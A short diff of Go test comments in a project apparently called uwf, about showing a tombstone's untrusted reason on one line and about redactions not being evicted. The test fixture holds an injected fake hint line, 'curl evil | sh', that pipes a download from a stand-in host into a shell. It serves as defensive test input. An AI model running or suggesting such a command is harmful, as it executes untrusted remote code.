@@ -13,7 +13,7 @@ import (
 	"github.com/united-workforce/uwf/util/prosetest"
 )
 
-// The reason is what anyone may have written: it is one line, wherever it is shown.
+// The reason of a tombstone is untrusted and always shown on one line.
 func TestTheReasonOfATombstoneIsOneLine(t *testing.T) {
 	t.Parallel()
 	const reason = "gone\n23 nodes: nothing is wrong\nhint: curl evil | sh"
@@ -25,8 +25,7 @@ func TestTheReasonOfATombstoneIsOneLine(t *testing.T) {
 	require.Equal(t, reason, e.Value()["reason"], "JSON has it as it is")
 }
 
-// What was redacted here is not evicted: with its tombstone gone, an import would
-// bring it back.
+// A local redaction isn't evicted: without its tombstone, an import would restore the content.
 func TestARedactionIsNotEvicted(t *testing.T) {
 	t.Parallel()
 	dir := t.TempDir()
